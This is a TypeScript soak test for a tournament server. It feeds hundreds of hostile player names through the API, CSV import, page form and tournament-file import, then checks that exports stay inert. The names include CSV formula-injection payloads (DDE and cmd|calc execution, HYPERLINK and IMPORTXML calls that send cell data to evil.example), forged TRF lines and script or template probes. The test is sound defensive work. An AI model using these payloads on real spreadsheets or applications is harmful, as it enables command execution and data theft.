// Issue 23 #8, soaked: hundreds of hostile names — CSV formula prefixes (= + - @, tab, CR), CR/LF and
// the other control characters, quotes and separators, TRF-breaking widths (33 columns and the
// 100-character limit's edges, CJK and characters outside the BMP), bidirectional marks — through
// every way a name gets in: the API (POST players), the player CSV import, the tournament-file
// import and the page form. Each name is refused (4xx naming the field) or written inert: no
// standings-CSV cell starts a formula, every CSV row keeps its columns, every TRF player line keeps
// its fixed columns (one line per player, rank and points where TRF reads them). The rule is one:
// a name is refused when it holds a control character or is longer than 100 characters, at every
// entry point alike.
import { INestApplication } from '@nestjs/common';
import { trfColumns } from '@chuhe/pairing';
import { createApp } from '../../apps/server/src/create-app';
import { testDatabaseUrl } from '../support/database';
import { call, listen, must, newAccount, PASSWORD, SOAK_SWISS, SOAK_TOURNAMENT, soakSize, summary, tally } from './soak-helpers';

const LIMIT = 100;
const CONTROL = /[\p{Cc}\u2028\u2029]/u;

/** The hostile names, deterministic; SOAK_INJECTION_NAMES takes the first n. */
function hostileNames(): string[] {
  const names = new Set<string>();
  const formulaPrefixes = ['=', '+', '-', '@', ' =', "'=", '==', '=-', '+-', '@@', '-+', '=\u200B'];
  const payloads = [
    'SUM(1,1)',
    'HYPERLINK("http://evil.example","x")',
    '1+1',
    "cmd|' /C calc'!A0",
    '6',
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
    '2+3*A1',
    '王五',
    'Wang Wu',
    '1',
    '',
  ];
  for (const p of formulaPrefixes) for (const x of payloads) names.add(`${p}${x}`);
  const controls = ['\r', '\n', '\r\n', '\t', '\v', '\f', '\0', '\x1b', '\x7f', '\x85', '\x9b', '\u2028', '\u2029', '\x08'];
  for (const c of controls)
    for (const base of ['王五', 'Wang Wu'])
      for (const at of ['start', 'middle', 'end'] as const)
        names.add(at === 'start' ? `${c}${base}` : at === 'end' ? `${base}${c}` : `${base.slice(0, 1)}${c}${base.slice(1)}`);
  names.add('王\r\n001    9      Forged Player                       2000');
  names.add('Wang\n001 9999      Forged');
  names.add('=1+1\r\n=2+2');
  for (const q of [
    '"',
    '""',
    "'",
    '"=SUM(1,1)"',
    'a"b,c',
    ',,,',
    ';;;',
    'a,b',
    '"a","b"',
    "O'Brien",
    '\\',
    '\\n',
    '%0d%0a',
    '&quot;',
    '<script>alert(1)</script>',
    '{{7*7}}',
    '${7*7}',
    '`id`',
  ])
    names.add(q);
  for (const ch of ['W', '王', '𠀀', 'é']) for (const n of [1, 32, 33, 34, 99, 100, 101, 150]) names.add(ch.repeat(n));
  names.add(`=${'W'.repeat(99)}`);
  names.add(`=${'W'.repeat(100)}`);
  names.add(`${'王'.repeat(99)}\n`);
  const bidi = ['\u202E', '\u202D', '\u202A', '\u202B', '\u202C', '\u200E', '\u200F', '\u2066', '\u2067', '\u2068', '\u2069', '\u061C', '\u200B', '\uFEFF'];
  for (const b of bidi) for (const base of ['王五', '=SUM(1,1)', 'Wang Wu']) names.add(`${b}${base}`);
  for (const b of bidi) names.add(`王${b}五`);
  for (const p of formulaPrefixes) for (const b of ['\u202E', '\u200F']) names.add(`${b}${p}1`);
  return [...names];
}

/** A CSV cell as a spreadsheet writes it. */
const csvQuote = (s: string) => `"${s.replace(/"/g, '""')}"`;

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  const endField = () => {
    record.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      records.push(record);
      record = [];
      i++;
    } else field += c;
  }
  if (field || record.length) {
    endField();
    records.push(record);
  }
  return records;
}

describe('hostile names through every entry point: refused or inert', () => {
  let app: INestApplication;
  let base: string;

  beforeAll(async () => {
    app = await createApp(testDatabaseUrl(), {
      logger: false,
      tournamentCreators: 'anyone',
      loginThrottle: { address: { free: 1_000_000, baseSeconds: 1, capSeconds: 60 } },
    });
    base = await listen(app);
  }, 300_000);
  afterAll(async () => {
    await app.close();
  });

  it('every name refused or written inert, by one rule at every entry point', async () => {
    const names = hostileNames().slice(0, soakSize('SOAK_INJECTION_NAMES', 100_000));
    const refusedByRule = (name: string) => CONTROL.test(name) || [...name].length > LIMIT || name.trim() === '';
    const organizer = await newAccount(base, 'injector');
    const auth = organizer.auth;
    const tournament = async () => (await must(base, 201, 'POST', '/api/tournaments', SOAK_TOURNAMENT, { auth })).id as string;

    // The browser: the session cookie and the CSRF token of the forms.
    const setCookie = await fetch(`${base}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ email: organizer.email, password: PASSWORD, next: '/my' }).toString(),
      redirect: 'manual',
    });
    const session = (setCookie.headers.getSetCookie().find((c) => c.startsWith('chuhe_session=')) ?? '').split(';')[0];
    expect(session).toMatch(/^chuhe_session=./);
    const my = await call(base, 'GET', '/my', undefined, { headers: { cookie: session, accept: 'text/html' } });
    const csrf = /name="_csrf" value="([^"]+)"/.exec(my.text)![1];

    const verdicts: { name: string; via: string; status: number; text: string }[] = [];
    // 1. The API.
    const apiT = await tournament();
    for (const name of names) {
      const a = await call(base, 'POST', `/api/tournaments/${apiT}/players`, { nameZh: name, nameEn: name, gender: 'male' }, { auth });
      verdicts.push({ name, via: 'api', status: a.status, text: a.text });
    }
    // 2. The player CSV import (one name a file: an import is all or nothing).
    const csvT = await tournament();
    for (const name of names) {
      // Each its own affiliation: the import trims cells, and " =1" trimmed is "=1" — the same player (name and affiliation) again.
      const a = await call(
        base,
        'POST',
        `/api/tournaments/${csvT}/import/players`,
        { csv: `name_zh,name_en,gender,affiliation\r\n${csvQuote(name)},${csvQuote(name)},male,单位${names.indexOf(name)}` },
        { auth },
      );
      verdicts.push({ name, via: 'csv', status: a.status, text: a.text });
    }
    // 3. The page form.
    const pageT = await tournament();
    for (const name of names) {
      const a = await call(base, 'POST', `/tournaments/${pageT}/manage/players/new`, undefined, {
        headers: { cookie: session, accept: 'text/html' },
        raw: { type: 'application/x-www-form-urlencoded', data: new URLSearchParams({ _csrf: csrf, nameZh: name, nameEn: name, gender: 'male' }).toString() },
      });
      verdicts.push({ name, via: 'page', status: a.status, text: a.text });
    }
    // 4. The tournament file: one file with every name says which entries it refuses; the rest import.
    const fileT = await tournament();
    const file = (list: string[]) => ({
      name: 'Injection',
      options: { eventKind: 'individual', scoring: '2-1-0', gamesPerPairing: 1, boards: 1, pairingSystem: 'swiss-individual', totalRounds: 5 },
      entries: list.map((name, i) => ({ id: `p${i + 1}`, drawNumber: i + 1, name })),
      rounds: [],
      standings: {},
      sanctions: [],
      withdrawals: [],
    });
    // The file's checks run in turns (NUL and surrogates over the raw input, then the API's name
    // rules) and list at most 20 problems each: what a file refuses is taken out and the rest sent
    // again, until the file imports.
    const refusedInFile = new Set<number>();
    let imported: Awaited<ReturnType<typeof call>> | undefined;
    for (let turn = 0; turn < 100 && !imported; turn++) {
      const left = names.map((_, i) => i).filter((i) => !refusedInFile.has(i));
      const answer = await call(base, 'POST', `/api/tournaments/${fileT}/tournament-file`, { file: file(left.map((i) => names[i])) }, { auth });
      if (answer.status === 201) {
        imported = answer;
        break;
      }
      const indexes = ((answer.body?.errors ?? []) as { field: string }[]).flatMap((e) => {
        const m = /^file\.entries\.(\d+)\.name$/.exec(e.field);
        return m ? [left[Number(m[1])]] : [];
      });
      if (answer.status !== 400 || indexes.length === 0) throw new Error(`the tournament file: ${answer.status} ${answer.text.slice(0, 2000)}`);
      for (const i of indexes) refusedInFile.add(i);
    }
    if (!imported) throw new Error('the tournament file never imported');
    names.forEach((name, i) => verdicts.push({ name, via: 'file', status: refusedInFile.has(i) ? 400 : 201, text: '' }));
    const accepted = names.filter((_, i) => !refusedInFile.has(i));

    // Each accepted name plays: an event per entry point, one round, every game drawn (tied ranks: `=N`).
    const outputs: { via: string; csv: string; trf: string; players: number }[] = [];
    for (const [via, t] of [
      ['api', apiT],
      ['csv', csvT],
      ['page', pageT],
    ] as const) {
      const players = (await must(base, 200, 'GET', `/api/tournaments/${t}/players`, undefined, { auth })) as { id: string }[];
      const e = (await must(base, 201, 'POST', `/api/tournaments/${t}/events`, SOAK_SWISS, { auth })).id as string;
      await must(base, 201, 'POST', `/api/events/${e}/entries/bulk`, { playerIds: players.map((p) => p.id) }, { auth });
      await must(base, 201, 'POST', `/api/events/${e}/draw`, { seed: 'names' }, { auth });
      const draft = await must(base, 201, 'POST', `/api/events/${e}/rounds`, {}, { auth });
      const round = await must(base, 200, 'POST', `/api/rounds/${draft.id}/publish`, { version: draft.version }, { auth });
      for (const g of (round.pairings as { games: { id: string; version: number }[] }[]).flatMap((p) => p.games))
        await must(base, 200, 'PUT', `/api/games/${g.id}/result`, { result: 'draw', version: g.version }, { auth });
      const csv = (await call(base, 'GET', `/api/events/${e}/standings.csv`)).text;
      const trf = (await call(base, 'GET', `/api/events/${e}/trf`)).text;
      outputs.push({ via, csv, trf, players: players.length });
    }
    const fileEvent = imported.body.event.id as string;
    outputs.push({
      via: 'file',
      csv: (await call(base, 'GET', `/api/events/${fileEvent}/standings.csv`)).text,
      trf: (await call(base, 'GET', `/api/events/${fileEvent}/trf`)).text,
      players: accepted.length,
    });

    // The verdicts: refused ⇔ the rule says so, at every entry point; a refusal says the field and
    // why (the API: errors [{field, reason}]; the page: the message beside the name's field, or — for
    // a NUL, refused before the form is read — the error page naming the field). A form
    // trims what is typed (a browser's line break at either end goes): the rule applies to the rest.
    const wrong: string[] = [];
    for (const v of verdicts) {
      const ok = v.via === 'page' ? v.status === 303 : v.status === 201;
      const errors = (() => {
        try {
          return (JSON.parse(v.text) as { errors?: { field?: unknown; reason?: unknown }[] }).errors ?? [];
        } catch {
          return [];
        }
      })();
      const refusedClearly =
        v.status === 400 &&
        (v.via === 'file' ||
          (v.via === 'page'
            ? /id="f-name(Zh|En)-error"|name(Zh|En): must not contain/.test(v.text)
            : errors.length > 0 && errors.every((e) => typeof e.field === 'string' && typeof e.reason === 'string')));
      const refuse = refusedByRule(v.via === 'page' ? v.name.trim() : v.name);
      if (refuse ? !refusedClearly : !ok) wrong.push(`${v.via} ${JSON.stringify(v.name)}: ${v.status} ${v.text.slice(0, 160)}`);
    }
    // What was written holds no control character, wherever it came in.
    for (const t of [apiT, csvT, pageT, fileT]) {
      const stored = (await must(base, 200, 'GET', `/api/tournaments/${t}/players`, undefined, { auth })) as { nameZh: string; nameEn: string }[];
      for (const p of stored) if (CONTROL.test(p.nameZh) || CONTROL.test(p.nameEn)) wrong.push(`stored ${JSON.stringify(p)}`);
    }
    // The outputs: no formula, whole rows, whole TRF lines.
    const inert: string[] = [];
    for (const o of outputs) {
      const records = parseCsv(o.csv.replace(/^\uFEFF/, ''));
      const width = records[0].length;
      if (records.length - 1 !== o.players) inert.push(`${o.via} CSV: ${records.length - 1} rows for ${o.players} players`);
      for (const r of records) {
        if (r.length !== width) inert.push(`${o.via} CSV row of ${r.length} cells (header ${width}): ${JSON.stringify(r).slice(0, 160)}`);
        for (const cell of r) if (/^[=+\-@\t\r]/.test(cell)) inert.push(`${o.via} CSV formula cell ${JSON.stringify(cell)}`);
      }
      const lines = o.trf.split('\n').filter((l) => l !== '');
      const playerLines = lines.filter((l) => l.startsWith('001'));
      if (playerLines.length !== o.players) inert.push(`${o.via} TRF: ${playerLines.length} player lines for ${o.players} players`);
      const ranks = new Set<number>();
      for (const l of playerLines) {
        const rank = trfColumns(l, 4, 8).trim();
        const points = trfColumns(l, 80, 84).trim();
        if (!/^\d+$/.test(rank) || !/^\d+\.\d$/.test(points)) inert.push(`${o.via} TRF line out of its columns: ${JSON.stringify(l).slice(0, 160)}`);
        ranks.add(Number(rank));
      }
      if (ranks.size !== o.players) inert.push(`${o.via} TRF: ${ranks.size} distinct ranks for ${o.players} players`);
      if (lines.some((l) => !/^(\d{3}|XXR|XCI) /.test(l)))
        inert.push(`${o.via} TRF: a line that is no record: ${JSON.stringify(lines.find((l) => !/^(\d{3}|XXR|XCI) /.test(l)))}`);
    }
    const refusedNames = names.filter(refusedByRule).length;
    summary('injection-names', {
      names: names.length,
      entryPoints: 4,
      attempts: verdicts.length,
      refusedByRule: refusedNames,
      acceptedByRule: names.length - refusedNames,
      byEntryPoint: Object.fromEntries(
        ['api', 'csv', 'page', 'file'].map((via) => [
          via,
          tally(
            verdicts.filter((v) => v.via === via),
            (v) => v.status,
          ),
        ]),
      ),
      wrongVerdicts: wrong.length,
      notInert: inert.length,
    });
    expect(names.length).toBeGreaterThan(300);
    expect(wrong).toEqual([]);
    expect(inert).toEqual([]);
    expect(outputs.every((o) => o.players > 100)).toBe(true);
  }, 600_000);
});
